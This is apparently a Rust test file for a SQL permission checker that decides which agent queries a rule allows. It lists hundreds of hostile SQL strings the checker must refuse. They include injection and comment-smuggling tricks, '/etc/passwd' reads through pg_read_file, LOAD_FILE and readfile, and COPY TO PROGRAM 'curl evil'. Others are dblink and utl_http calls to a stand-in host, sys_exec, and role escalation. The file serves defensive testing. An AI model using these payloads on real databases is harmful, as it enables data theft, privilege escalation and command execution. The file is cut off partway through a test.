//! SQL against rules: what is refused and why, what passes, and that every text is answered.

use super::*;

fn table(text: &str) -> TableName {
    text.split('.').map(str::to_owned).collect()
}

fn set(names: &[&str]) -> BTreeSet<TableName> {
    names.iter().map(|name| table(name)).collect()
}

/// `SELECT` from `tickets` and `customers`, as most rules for agents are.
fn reading(dialect: Dialect) -> Rule {
    Rule {
        dialect,
        statements: [Kind::Select].into(),
        reads: Some(set(&["tickets", "customers", "public.tickets"])),
        writes: Some(set(&[])),
        functions: None,
        has_where: true,
        limit_at_most: None,
        statements_at_most: 1,
    }
}

/// All kinds on `tickets`, bounded.
fn writing(dialect: Dialect) -> Rule {
    Rule {
        statements: [Kind::Select, Kind::Insert, Kind::Update, Kind::Delete].into(),
        writes: Some(set(&["tickets"])),
        ..reading(dialect)
    }
}

fn verdict(rule: &Rule, text: &str) -> Result<(), String> {
    let facts = read(text, rule.dialect).map_err(|error| error.to_string())?;
    rule.allows(&facts).map_err(|unmet| unmet.to_string())
}

const ALL: [Dialect; 4] = Dialect::ALL;
use Dialect::{Generic, MySql, Postgres, Sqlite};

/// Each is refused under a rule that only reads two tables, for the reason that stands beside it.
#[test]
fn what_is_not_a_plain_reading_of_the_listed_tables_is_refused_and_why_is_said() {
    let beyond = "a statement other than SELECT, INSERT, UPDATE and DELETE is never allowed";
    let parse = "it can't be parsed";
    let differ = "servers read that in different ways";
    let unlisted = "it reads a table that is not listed";
    let function = "it calls a function that is not allowed";
    let two = "it has 2 statements";
    let into = "SELECT ... INTO is never allowed";
    let cases: &[(&[Dialect], &str, &str)] = &[
        // What changes the schema, the server or the session.
        (&ALL, "DROP TABLE users", beyond),
        (&ALL, "drop table tickets", beyond),
        (&ALL, "DROP TABLE IF EXISTS tickets CASCADE", beyond),
        (&ALL, "TRUNCATE TABLE tickets", beyond),
        (&ALL, "ALTER TABLE tickets ADD COLUMN x INT", beyond),
        (&ALL, "CREATE TABLE x (a INT)", beyond),
        (&ALL, "CREATE TABLE x AS SELECT * FROM tickets", beyond),
        (&ALL, "CREATE VIEW v AS SELECT * FROM users", beyond),
        (&ALL, "CREATE INDEX i ON tickets (a)", beyond),
        (
            &[Postgres],
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
            beyond,
        ),
        (&[Postgres], "CREATE EXTENSION dblink", beyond),
        (&[Postgres], "CREATE ROLE eve SUPERUSER", beyond),
        (&[Postgres], "DROP SCHEMA public CASCADE", beyond),
        (&ALL, "GRANT SELECT ON users TO eve", beyond),
        (&ALL, "REVOKE SELECT ON users FROM eve", beyond),
        (&[Postgres], "COPY tickets TO PROGRAM 'curl evil'", beyond),
        (
            &[Postgres],
            "COPY (SELECT * FROM tickets) TO '/tmp/x'",
            beyond,
        ),
        (&[Postgres], "COPY tickets FROM '/etc/passwd'", beyond),
        (&[Postgres], "SET ROLE postgres", beyond),
        (&[Postgres], "SET search_path = evil", beyond),
        (&[MySql], "SET GLOBAL general_log = 'ON'", beyond),
        (&[MySql], "SET @x = 1", beyond),
        (&[Postgres], "DO $$ BEGIN DELETE FROM users; END $$", parse),
        (&[Postgres, MySql], "CALL purge()", beyond),
        (&[Postgres], "EXECUTE stolen", beyond),
        (&[Postgres], "PREPARE p AS DELETE FROM users", beyond),
        (&[Postgres], "DEALLOCATE p", beyond),
        (&[Postgres], "LISTEN x", beyond),
        (&[Postgres], "NOTIFY x", beyond),
        (&[Postgres], "VACUUM", beyond),
        (&[Postgres], "LOCK TABLE tickets", beyond),
        (&[MySql], "LOCK TABLES tickets WRITE", beyond),
        (&[MySql], "FLUSH PRIVILEGES", beyond),
        (&[MySql], "KILL 7", beyond),
        (&[MySql], "SHOW TABLES", beyond),
        (&[MySql], "SHOW GRANTS", beyond),
        (&[MySql], "USE mysql", beyond),
        (
            &[MySql],
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE tickets",
            parse,
        ),
        (&[MySql], "HANDLER tickets OPEN", parse),
        (&[Sqlite], "ATTACH DATABASE '/tmp/x' AS x", beyond),
        (&[Sqlite], "PRAGMA writable_schema = 1", beyond),
        (&[Sqlite], "DETACH DATABASE x", parse),
        (&[Sqlite], "REINDEX", parse),
        (&ALL, "EXPLAIN SELECT * FROM tickets", beyond),
        (&[Postgres], "EXPLAIN ANALYZE DELETE FROM users", beyond),
        (&ALL, "BEGIN", beyond),
        (&ALL, "COMMIT", beyond),
        (&ALL, "ROLLBACK", beyond),
        (&[Postgres], "SAVEPOINT s", beyond),
        (
            &[Postgres, Generic],
            "MERGE INTO tickets USING users ON true WHEN MATCHED THEN DELETE",
            beyond,
        ),
        (
            &[Postgres],
            "DECLARE c CURSOR FOR SELECT * FROM users",
            beyond,
        ),
        (&[Postgres], "COMMENT ON TABLE tickets IS 'x'", beyond),
        (&[Postgres], "ANALYZE tickets", beyond),
        // What changes rows.
        (&ALL, "INSERT INTO tickets VALUES (1)", "it has insert"),
        (
            &ALL,
            "INSERT INTO tickets SELECT * FROM users",
            "it has insert",
        ),
        (
            &ALL,
            "UPDATE tickets SET a = 1 WHERE id = 1",
            "it has update",
        ),
        (&ALL, "DELETE FROM tickets WHERE id = 1", "it has delete"),
        (&[MySql], "REPLACE INTO tickets VALUES (1)", "it has insert"),
        (
            &[Sqlite],
            "INSERT OR REPLACE INTO tickets VALUES (1)",
            "it has insert",
        ),
        (
            &[Postgres, Generic],
            "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
            "it has delete",
        ),
        (
            &[Postgres, Generic],
            "WITH d AS (DELETE FROM tickets RETURNING *) SELECT * FROM tickets",
            "it has delete",
        ),
        (
            &[Postgres, Generic],
            "WITH u AS (UPDATE tickets SET a = 1 RETURNING *) SELECT * FROM u",
            "it has update",
        ),
        (
            &[Postgres, Generic],
            "WITH i AS (INSERT INTO tickets VALUES (1) RETURNING *) SELECT * FROM i",
            "it has insert",
        ),
        (
            &[Postgres, Generic],
            "SELECT * FROM (WITH d AS (DELETE FROM tickets RETURNING *) SELECT * FROM d) x",
            "it has delete",
        ),
        (
            &[Postgres, MySql, Generic],
            "SELECT * FROM tickets FOR UPDATE",
            "it has update",
        ),
        (
            &[Postgres],
            "SELECT * FROM tickets FOR SHARE",
            "it has update",
        ),
        (&[Postgres], "SELECT * INTO evil FROM tickets", into),
        (&[Postgres], "SELECT * INTO TEMP evil FROM tickets", into),
        (
            &[Postgres],
            "SELECT 1 UNION SELECT * INTO evil FROM tickets",
            into,
        ),
        (
            &[MySql],
            "SELECT * FROM tickets INTO OUTFILE '/tmp/x'",
            parse,
        ),
        (&[MySql], "SELECT 1 INTO @x", into),
        (
            &[MySql],
            "SELECT a FROM tickets INTO DUMPFILE '/tmp/x'",
            parse,
        ),
        // Several statements.
        (&ALL, "SELECT 1; DROP TABLE users", beyond),
        (&ALL, "SELECT 1; SELECT 2", two),
        (&ALL, "SELECT 1;SELECT 2;", two),
        (&ALL, "SELECT 1; DELETE FROM tickets WHERE id = 1", two),
        (&ALL, "SELECT 1 /* ; */; DROP TABLE users", beyond),
        (&ALL, "SELECT ';'; DROP TABLE users", beyond),
        (&ALL, "SELECT ''';'; DROP TABLE users", beyond),
        (&ALL, "SELECT 1 -- ;\n; DROP TABLE users", beyond),
        (&[Postgres], "SELECT $$;$$; DROP TABLE users", beyond),
        (&[Postgres], "SELECT $x$ $$ ; $x$; DROP TABLE users", beyond),
        // Comments that hide something from one or the other.
        (&ALL, "SELECT 1 /*! ; DROP TABLE users */", differ),
        (
            &ALL,
            "SELECT 1 /*!50000 UNION SELECT password FROM users */",
            differ,
        ),
        (
            &ALL,
            "SELECT 1 /*M!100100 UNION SELECT password FROM users */",
            differ,
        ),
        (&ALL, "SELECT /*+ SET_VAR(x=1) */ 1", differ),
        (&ALL, "SELECT 1 /* /* */ ; DROP TABLE users -- */", differ),
        (&ALL, "SELECT 1 /* a /* b */ c */", differ),
        (&[Postgres, Sqlite, Generic], "SELECT 1 --1\n", differ),
        (&[Postgres, Sqlite, Generic], "SELECT 1--\u{1}\n", differ),
        (
            &[Sqlite, Generic],
            "SELECT 1 # x\n; DROP TABLE users",
            parse,
        ),
        (&ALL, "SELECT 1 /* never closed", parse),
        (&ALL, "DR/**/OP TABLE users", parse),
        (
            &ALL,
            "-- a\rDROP TABLE users",
            "servers read that in different ways",
        ),
        // Encodings and white space.
        (&ALL, "SELECT\u{a0}1", differ),
        (&ALL, "SELECT\u{2003}1", differ),
        (&ALL, "SELECT\u{b}1", differ),
        (&ALL, "SELECT\u{c}1", differ),
        (&ALL, "SELECT\u{0}1", differ),
        (&ALL, "SELECT \u{feff}1", differ),
        (&ALL, "SELECT 1\u{200b}", differ),
        (&ALL, "SELECT * FROM \u{ff55}sers", differ),
        (&ALL, "\u{ff24}ROP TABLE users", differ),
        (
            &ALL,
            "SELECT * FROM tickets WHERE a = 'x\\' OR 1=1; DROP TABLE users; -- '",
            differ,
        ),
        (&ALL, "SELECT 'a\\'; DROP TABLE users --'", differ),
        (&[Postgres], "SELECT E'a\\'b'", differ),
        (&[MySql], "SELECT \"a\\\"b\"", differ),
        // Tables.
        (&ALL, "SELECT * FROM users", unlisted),
        (&ALL, "SELECT * FROM tickets, users", unlisted),
        (&ALL, "SELECT * FROM tickets JOIN users ON true", unlisted),
        (
            &ALL,
            "SELECT * FROM tickets LEFT JOIN users ON users.id = tickets.id",
            unlisted,
        ),
        (
            &ALL,
            "SELECT * FROM tickets WHERE id IN (SELECT id FROM users)",
            unlisted,
        ),
        (
            &ALL,
            "SELECT (SELECT password FROM users LIMIT 1)",
            unlisted,
        ),
        (
            &ALL,
            "SELECT * FROM (SELECT * FROM users) tickets",
            unlisted,
        ),
        (
            &ALL,
            "SELECT * FROM tickets WHERE EXISTS (SELECT 1 FROM users)",
            unlisted,
        ),
        (&ALL, "SELECT 1 UNION SELECT password FROM users", unlisted),
        (
            &ALL,
            "SELECT 1 UNION ALL (SELECT password FROM users)",
            unlisted,
        ),
        (
            &[Postgres, Generic],
            "SELECT 1 EXCEPT SELECT a FROM users",
            unlisted,
        ),
        (
            &ALL,
            "WITH x AS (SELECT * FROM users) SELECT * FROM x",
            unlisted,
        ),
        (
            &ALL,
            "WITH tickets AS (SELECT * FROM users) SELECT * FROM tickets",
            unlisted,
        ),
        (
            &ALL,
            "WITH users AS (SELECT * FROM users) SELECT * FROM users",
            unlisted,
        ),
        (
            &ALL,
            "WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a",
            unlisted,
        ),
        (
            &ALL,
            "SELECT * FROM users WHERE id IN (WITH users AS (SELECT 1) SELECT * FROM users)",
            unlisted,
        ),
        (
            &ALL,
            "SELECT * FROM (WITH users AS (SELECT 1) SELECT * FROM users) x, users",
            unlisted,
        ),
        (
            &ALL,
            "WITH users AS (SELECT 1) SELECT * FROM public.users",
            unlisted,
        ),
        (
            &ALL,
            "SELECT * FROM tickets ORDER BY (SELECT a FROM users)",
            unlisted,
        ),
        (
            &ALL,
            "SELECT CASE WHEN (SELECT true FROM users) THEN 1 END",
            unlisted,
        ),
        (
            &ALL,
            "SELECT count(*) FROM tickets GROUP BY (SELECT a FROM users)",
            unlisted,
        ),
        (
            &ALL,
            "SELECT count(*) FROM tickets GROUP BY a HAVING a > (SELECT a FROM users)",
            unlisted,
        ),
        (&ALL, "SELECT coalesce((SELECT a FROM users), 1)", unlisted),
        (&ALL, "SELECT * FROM evil.tickets", unlisted),
        (&ALL, "SELECT * FROM information_schema.tables", unlisted),
        (&[Postgres], "SELECT * FROM pg_catalog.pg_shadow", unlisted),
        (&[Postgres], "SELECT * FROM \"Tickets\"", unlisted),
        (&[Postgres], "SELECT * FROM \"public.tickets\"", unlisted),
        (&[Postgres], "SELECT * FROM ONLY users", unlisted),
        (
            &[Postgres],
            "SELECT * FROM tickets CROSS JOIN LATERAL (SELECT * FROM users) u",
            unlisted,
        ),
        (&[Postgres], "TABLE users", parse),
        (&[MySql], "SELECT * FROM Tickets", unlisted),
        (&[MySql], "SELECT * FROM `users`", unlisted),
        (&[MySql], "SELECT * FROM mysql.user", unlisted),
        (&[Sqlite], "SELECT * FROM sqlite_master", unlisted),
        (&[Sqlite], "SELECT * FROM [users]", unlisted),
        (&[Generic], "SELECT * FROM TICKETS", unlisted),
        // Functions.
        (&[Postgres], "SELECT pg_read_file('/etc/passwd')", function),
        (&[Postgres], "SELECT PG_READ_FILE('/etc/passwd')", function),
        (
            &[Postgres],
            "SELECT \"pg_read_file\"('/etc/passwd')",
            function,
        ),
        (
            &[Postgres],
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            function,
        ),
        (
            &[Postgres],
            "SELECT * FROM pg_read_file('/etc/passwd')",
            function,
        ),
        (
            &[Postgres],
            "SELECT * FROM tickets, LATERAL pg_ls_dir('/')",
            function,
        ),
        (&[Postgres], "SELECT pg_ls_dir('/')", function),
        (&[Postgres], "SELECT lo_import('/etc/passwd')", function),
        (&[Postgres], "SELECT lo_export(1, '/tmp/x')", function),
        (
            &[Postgres],
            "SELECT dblink('host=evil', 'select 1')",
            function,
        ),
        (
            &[Postgres],
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
            function,
        ),
        (
            &[Postgres],
            "SELECT query_to_xml('delete from users', true, true, '')",
            function,
        ),
        (&[Postgres], "SELECT pg_sleep(3600)", function),
        (
            &[Postgres],
            "SELECT * FROM tickets WHERE id = (SELECT pg_sleep(1) IS NULL)::int",
            function,
        ),
        (
            &[Postgres],
            "SELECT set_config('role', 'postgres', false)",
            function,
        ),
        (&[Postgres], "SELECT pg_terminate_backend(1)", function),
        (&[Postgres], "SELECT nextval('tickets_id_seq')", function),
        (
            &[Postgres],
            "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM tickets",
            function,
        ),
        (
            &[Postgres],
            "SELECT * FROM tickets ORDER BY pg_sleep(1)",
            function,
        ),
        (
            &[Postgres],
            "SELECT * FROM tickets LIMIT (SELECT length(pg_read_file('x')))",
            function,
        ),
        (&[MySql], "SELECT LOAD_FILE('/etc/passwd')", function),
        (
            &[MySql],
            "SELECT load_file(0x2f6574632f706173737764)",
            function,
        ),
        (&[MySql], "SELECT SLEEP(10)", function),
        (
            &[MySql],
            "SELECT BENCHMARK(1000000000, SHA2('x', 512))",
            function,
        ),
        (&[MySql], "SELECT sys_exec('id')", function),
        (&[MySql], "SELECT IF(1=1, SLEEP(5), 0)", function),
        (&[Sqlite], "SELECT load_extension('/tmp/x.so')", function),
        (&[Sqlite], "SELECT readfile('/etc/passwd')", function),
        (&[Sqlite], "SELECT writefile('/tmp/x', 'y')", function),
        (
            &[Generic],
            "SELECT * FROM read_csv('/etc/passwd')",
            function,
        ),
        // Nothing, or nothing that is SQL.
        (&ALL, "", "there is no statement"),
        (&ALL, " ; ; ", "there is no statement"),
        (&ALL, "-- nothing\n", "there is no statement"),
        (&ALL, "SELECT", parse),
        (&ALL, "SELECT * FORM tickets", parse),
        (&ALL, "please show me the tickets", parse),
        (&ALL, "SELECT * FROM tickets WHERE", parse),
        (&ALL, "SELECT 'open", parse),
        (&ALL, "SELECT (1", parse),
    ];
    let (mut asked, mut wrong) = (0, Vec::new());
    for (dialects, text, why) in cases {
        for dialect in *dialects {
            asked += 1;
            match verdict(&reading(*dialect), text) {
                Err(said) if said.contains(why) => {}
                other => wrong.push(format!(
                    "{dialect}: {text}\n  said: {other:?}\n  not: {why}"
                )),
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(asked >= 300, "{asked}");
}

/// Each is refused under a rule that allows all kinds on one table, bounded.
#[test]
fn changes_are_held_to_their_tables_and_to_bounds() {
    let unbounded = "it changes rows without bounds";
    let writes = "it writes a table that is not listed";
    let reads = "it reads a table that is not listed";
    let cases: &[(&[Dialect], &str, &str)] = &[
        (&ALL, "DELETE FROM tickets", unbounded),
        (&ALL, "UPDATE tickets SET a = 1", unbounded),
        (&ALL, "DELETE FROM tickets WHERE 1 = 1", unbounded),
        (&ALL, "DELETE FROM tickets WHERE true", unbounded),
        (&ALL, "DELETE FROM tickets WHERE id = id", unbounded),
        (&ALL, "DELETE FROM tickets WHERE id = 7 OR 1 = 1", unbounded),
        (&ALL, "DELETE FROM tickets WHERE id = 7 OR true", unbounded),
        (&ALL, "DELETE FROM tickets WHERE (1 = 1)", unbounded),
        (&ALL, "DELETE FROM tickets WHERE NOT (1 = 2)", unbounded),
        (
            &ALL,
            "DELETE FROM tickets WHERE EXISTS (SELECT id FROM customers)",
            unbounded,
        ),
        (&ALL, "DELETE FROM tickets WHERE 'a' LIKE '%'", unbounded),
        (
            &ALL,
            "UPDATE tickets SET a = 1 WHERE 1 IN (1, 2)",
            unbounded,
        ),
        (&ALL, "DELETE FROM users WHERE id = 1", writes),
        (&ALL, "DELETE FROM customers WHERE id = 1", writes),
        (&ALL, "UPDATE users SET a = 1 WHERE id = 1", writes),
        (&ALL, "INSERT INTO users VALUES (1)", writes),
        (&ALL, "INSERT INTO public.users VALUES (1)", writes),
        (&ALL, "INSERT INTO tickets SELECT * FROM users", reads),
        (
            &ALL,
            "UPDATE tickets SET a = (SELECT password FROM users) WHERE id = 1",
            reads,
        ),
        (
            &ALL,
            "DELETE FROM tickets WHERE id IN (SELECT id FROM users)",
            reads,
        ),
        (
            &[Postgres],
            "UPDATE tickets SET a = u.a FROM users u WHERE u.id = tickets.id",
            reads,
        ),
        (
            &[Postgres],
            "DELETE FROM tickets USING users WHERE users.id = tickets.id",
            reads,
        ),
        (
            &[Postgres],
            "INSERT INTO tickets VALUES (1) RETURNING (SELECT password FROM users)",
            reads,
        ),
        (
            &[Postgres],
            "WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) INSERT INTO tickets SELECT * FROM d",
            writes,
        ),
        (
            &[Postgres],
            "WITH d AS (DELETE FROM tickets RETURNING *) SELECT * FROM d",
            unbounded,
        ),
        (
            &[MySql],
            "UPDATE tickets JOIN users ON users.id = tickets.id SET users.a = 1 WHERE tickets.id = 1",
            writes,
        ),
        (
            &[MySql],
            "DELETE users FROM tickets JOIN users ON true WHERE tickets.id = 1",
            writes,
        ),
        (
            &ALL,
            "DELETE FROM tickets WHERE id = 1; DELETE FROM tickets",
            "it has 2 statements",
        ),
        (
            &[Postgres],
            "INSERT INTO tickets VALUES (pg_read_file('x'))",
            "it calls a function",
        ),
    ];
    let mut wrong = Vec::new();
    for (dialects, text, why) in cases {
        for dialect in *dialects {
            match verdict(&writing(*dialect), text) {
                Err(said) if said.contains(why) => {}
                other => wrong.push(format!(
                    "{dialect}: {text}\n  said: {other:?}\n  not: {why}"
                )),
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Texts that a server reads as more than this parser does, or that make it stop reading. Each is refused for what stands
/// beside it, under a rule that only reads two tables.
#[test]
fn what_servers_read_and_parsers_do_not_is_refused() {
    let parse = "it can't be parsed";
    let differ = "servers read that in different ways";
    let unlisted = "it reads a table that is not listed";
    let function = "it calls a function that is not allowed";
    let cases: &[(&[Dialect], &str, &str)] = &[
        // The parser takes END for the end of a statement; PostgreSQL, MySQL and SQLite take it for a column's name.
        (&ALL, "SELECT 1 END, password FROM users", parse),
        (&ALL, "SELECT 1 END DROP TABLE users", parse),
        (&ALL, "SELECT 1 END", parse),
        (&ALL, "SELECT 1 end; DROP TABLE users", parse),
        // Two dollar signs are a name or a parameter, and no quotes, but in PostgreSQL.
        (
            &[MySql],
            "SELECT $$.password FROM users AS $$ -- $$",
            unlisted,
        ),
        (
            &[Generic],
            "SELECT $$.password FROM users AS $$ -- $$",
            differ,
        ),
        (&[Sqlite], "SELECT $$, password FROM users -- $$", unlisted),
        (
            &[MySql],
            "SELECT 1, $a$, password FROM users -- $a$",
            unlisted,
        ),
        (
            &[Generic],
            "SELECT 1, $a$, password FROM users -- $a$",
            differ,
        ),
        (
            &[Postgres],
            "SELECT $1$a$ $1$, '$a$ , password FROM users -- '",
            differ,
        ),
        (&[Postgres], "SELECT $\u{e9}$ x $\u{e9}$", differ),
        // Names with escapes.
        (&ALL, "SELECT U&\"pg\\005fsleep\"(1)", differ),
        (&ALL, "SELECT u&\"pg\\005fsleep\"(1) FROM tickets", differ),
        (&ALL, "SELECT * FROM U&\"\\0075sers\"", differ),
        (&ALL, "SELECT U&'\\0027'", differ),
        // Texts that begin before their quote.
        (
            &ALL,
            "SELECT q'+'+' , (SELECT password FROM users) , '+'",
            "",
        ),
        (&ALL, "SELECT nq'[it's]'", ""),
        (
            &[Generic],
            "SELECT q'[' , password FROM users -- ]'",
            differ,
        ),
        (
            &[Generic],
            "SELECT r'\\' , password FROM users -- '",
            differ,
        ),
        (&[Generic], "SELECT e'a', b'b'", differ),
        (&[MySql], "SELECT _sjis'x', _gbk'y'", differ),
        // Numbers that run into words, which MySQL reads over.
        (&ALL, "SELECT 1.e(SELECT password FROM users)", differ),
        (&ALL, "SELECT 1union SELECT password FROM users", ""),
        (&[Postgres, Sqlite, Generic], "SELECT 1from users", differ),
        // Comments that begin or end on one slash.
        (&ALL, "SELECT 1 /*/ , password FROM users /*/", ""),
        (&ALL, "SELECT 1 /*/ */ FROM users", differ),
        // Names made by WITH before they are made: to some servers they are the tables.
        (
            &ALL,
            "WITH RECURSIVE a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a",
            unlisted,
        ),
        (
            &ALL,
            "WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a",
            unlisted,
        ),
        (
            &ALL,
            "WITH RECURSIVE users AS (SELECT * FROM users) SELECT * FROM users",
            unlisted,
        ),
        (
            &[Postgres],
            "WITH \"Users\" AS (SELECT 1) SELECT * FROM users",
            unlisted,
        ),
        (
            &[MySql, Generic],
            "WITH Users AS (SELECT 1) SELECT * FROM users",
            unlisted,
        ),
        // A table by a text is a file to some.
        (
            &[MySql, Sqlite, Generic, Postgres],
            "SELECT * FROM 'users'",
            "",
        ),
        (
            &[Generic],
            "SELECT * FROM '/etc/passwd'",
            "a table that is named by a text is never allowed",
        ),
        (&ALL, "SELECT 1 UNION TABLE users", ""),
        (&ALL, "SELECT 1 UNION TABLE Tickets", ""),
        (
            &[Postgres, Generic],
            "SELECT * FROM ONLY (users)",
            "a table of this form is never allowed",
        ),
        (
            &[Postgres],
            "SELECT * FROM only(users) AS tickets",
            "never allowed",
        ),
        (&[Postgres], "DELETE FROM ONLY (users) WHERE id = 1", ""),
        (&[Generic], "SELECT * FROM TABLE('users')", "never allowed"),
        (&[Generic], "SELECT * FROM TABLE(users)", "never allowed"),
        (&[Generic], "SELECT * FROM IDENTIFIER('users')", function),
        (
            &[Generic],
            "SELECT * FROM EXTERNAL_QUERY('x', 'y')",
            function,
        ),
        (&[Postgres], "SELECT * FROM users *", ""),
        (&[Postgres], "SELECT * FROM ROWS FROM (pg_ls_dir('/'))", ""),
        (
            &[Postgres],
            "SELECT * FROM tickets TABLESAMPLE system ((SELECT 1 FROM users))",
            "",
        ),
        (
            &[Postgres],
            "SELECT * FROM XMLTABLE('/a' PASSING (SELECT a FROM users) COLUMNS x int)",
            "",
        ),
        (&[Generic], "FROM users", ""),
        (&[Generic], "FROM tickets |> JOIN users ON true", ""),
        (&[Generic], "SELECT * FROM tickets FORMAT CSV", ""),
        (
            &[Generic],
            "SELECT * FROM tickets SETTINGS max_threads = 1",
            "",
        ),
        (&[Generic], "SELECT * FROM tickets FOR XML AUTO", ""),
        (
            &[Generic],
            "INSERT ALL INTO users VALUES (1) INTO tickets VALUES (1) SELECT 1",
            "",
        ),
        (&[Sqlite], "SELECT * FROM pragma_table_info", unlisted),
        // Functions by their package, and settings that are read like columns.
        (
            &[Generic],
            "SELECT utl_http.request('http://evil/')",
            function,
        ),
        (
            &[Generic],
            "SELECT dbms_pipe.receive_message('x', 9)",
            function,
        ),
        (
            &[Generic],
            "SELECT * FROM sys.fn_xe_file_target_read_file('x', null, null, null)",
            function,
        ),
        (
            &[Generic],
            "SELECT * FROM OPENROWSET('x', 'y', 'z')",
            function,
        ),
        (
            &[Generic],
            "SELECT * FROM query('delete from users')",
            function,
        ),
        (
            &[Postgres],
            "SELECT aws_s3.query_export_to_s3('select 1', 'x')",
            function,
        ),
        (
            &[Postgres],
            "SELECT cron.schedule('* * * * *', 'delete from users')",
            function,
        ),
        (&[Postgres], "SELECT net.http_get('http://evil/')", function),
        (
            &[Postgres],
            "SELECT xpath_table('a', 'b', 'users', 'c', 'd')",
            function,
        ),
        (&[Postgres], "SELECT public.dblink('x', 'y')", function),
        (
            &[Postgres],
            "SELECT CAST(pg_read_file('x') AS int)",
            function,
        ),
        (&[Postgres], "SELECT a[pg_sleep(1)] FROM tickets", function),
        (&[Postgres], "SELECT (SELECT lo_import('x'))::int", function),
        (
            &[Postgres],
            "SELECT * FROM tickets WINDOW w AS (ORDER BY pg_sleep(1))",
            function,
        ),
        (
            &[Postgres],
            "SELECT * FROM tickets GROUP BY GROUPING SETS ((pg_sleep(1)))",
            function,
        ),
        (
            &[Postgres],
            "SELECT * FROM tickets FETCH FIRST (SELECT length(pg_read_file('x'))) ROWS ONLY",
            "",
        ),
        (
            &[Postgres],
            "SELECT string_agg(a, pg_read_file('x') ORDER BY lo_import('y')) FROM tickets",
            function,
        ),
        (&[Postgres], "SELECT INTERVAL '1' + pg_sleep(1)", function),
        (
            &[Postgres],
            "SELECT a AT TIME ZONE pg_read_file('x') FROM tickets",
            function,
        ),
        (
            &[Postgres],
            "SELECT overlay(a PLACING pg_read_file('x') FROM 1) FROM tickets",
            function,
        ),
        (
            &[Postgres],
            "SELECT position(pg_read_file('x') IN a) FROM tickets",
            function,
        ),
        (&[Postgres], "SELECT ARRAY(SELECT a FROM users)", unlisted),
        (
            &[Postgres],
            "SELECT * FROM unnest(ARRAY(SELECT a FROM users))",
            unlisted,
        ),
        (&[Postgres], "SELECT a COLLATE \"C\" FROM users", unlisted),
        (&[MySql], "SELECT {fn sleep(5)}", ""),
        (&[MySql], "SELECT `sleep`(5)", function),
        (&[MySql], "SELECT sleep (5)", function),
        (&[MySql], "SELECT sleep/**/(5)", function),
        (&[MySql], "SELECT keyring_key_fetch('k')", function),
        (&[MySql], "SELECT @@datadir", function),
        (&[MySql], "SELECT @@global.secure_file_priv", function),
        (
            &[MySql],
            "SELECT 1 FROM tickets PROCEDURE ANALYSE(1)",
            parse,
        ),
        (&[MySql], "DO sleep(5)", ""),
        (&[MySql], "TABLE users", ""),
        (
            &[MySql],
            "SELECT * FROM JSON_TABLE((SELECT a FROM users), '$' COLUMNS(b INT PATH '$')) x",
            unlisted,
        ),
        (&[Sqlite], "SELECT * FROM pragma_database_list()", function),
        (&[Sqlite], "SELECT * FROM fsdir('/')", function),
        (
            &[Sqlite],
            "SELECT sha3_query('delete from users')",
            function,
        ),
        (
            &[Sqlite],
            "WITH x AS (SELECT 1) DELETE FROM users",
            "it has delete",
        ),
        (&[Sqlite], "VACUUM INTO '/tmp/x'", ""),
        // Quotes that are none.
        (&ALL, "SELECT \u{2018}a\u{2019}", ""),
        (&ALL, "SELECT \u{ff07}a\u{ff07}", ""),
        (&ALL, "SELECT 1\u{37e} DROP TABLE users", ""),
    ];
    let mut wrong = Vec::new();
    for (dialects, text, why) in cases {
        for dialect in *dialects {
            match verdict(&reading(*dialect), text) {
                Err(said) if said.contains(why) => {}
                other => wrong.push(format!(
                    "{dialect}: {text}\n  said: {other:?}\n  not: {why}"
                )),
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_looks_like_a_column_and_is_a_text_bounds_nothing() {
    let unbounded = Err("it changes rows without bounds".to_owned());
    for (dialect, text) in [
        (Sqlite, "DELETE FROM tickets WHERE \"1\""),
        (Sqlite, "DELETE FROM tickets WHERE \"a\" = 'a'"),
        (Generic, "UPDATE tickets SET a = 1 WHERE \"a\" = 'a'"),
        (MySql, "DELETE FROM tickets WHERE \"a\" = 'a'"),
        (MySql, "DELETE FROM tickets WHERE @a IS NULL"),
        (Postgres, "DELETE FROM tickets WHERE (id) = id"),
        (Postgres, "DELETE FROM tickets WHERE ((id)) = (id)"),
        (Postgres, "DELETE FROM tickets WHERE now() > '2020-01-01'"),
    ] {
        assert_eq!(verdict(&writing(dialect), text), unbounded, "{text}");
    }
    for (dialect, text) in [
        (Sqlite, "DELETE FROM tickets WHERE tickets.\"id\" = 7"),
        (Postgres, "DELETE FROM tickets WHERE \"id\" = 7"),
        (MySql, "DELETE FROM tickets WHERE `id` = 7"),
    ] {
        assert_eq!(verdict(&writing(dialect), text), Ok(()), "{text}");
    }
}

#[test]
fn ordinary_questions_and_changes_pass() {
    let reads: &[(&[Dialect], &str)] = &[
        (&ALL, "SELECT 1"),
        (&ALL, "select 1;"),
        (&ALL, "SELECT * FROM tickets"),
        (&ALL, "SELECT id, title FROM tickets WHERE id = 7"),
        (
            &ALL,
            "SELECT t.id AS number FROM tickets AS t WHERE t.state = 'open' AND t.age > 3",
        ),
        (
            &ALL,
            "SELECT t.id FROM tickets t JOIN customers c ON c.id = t.customer_id",
        ),
        (
            &ALL,
            "SELECT t.id FROM tickets t LEFT OUTER JOIN customers c ON c.id = t.customer_id WHERE c.id IS NULL",
        ),
        (
            &ALL,
            "SELECT count(*), max(age), min(age), avg(age), sum(age) FROM tickets",
        ),
        (
            &ALL,
            "SELECT state, count(*) FROM tickets GROUP BY state HAVING count(*) > 3 ORDER BY 2 DESC",
        ),
        (&ALL, "SELECT DISTINCT state FROM tickets ORDER BY state"),
        (&ALL, "SELECT * FROM tickets ORDER BY id LIMIT 10"),
        (&ALL, "SELECT * FROM tickets LIMIT 10 OFFSET 20"),
        (
            &ALL,
            "SELECT * FROM tickets WHERE title LIKE '%drop table users%'",
        ),
        (
            &ALL,
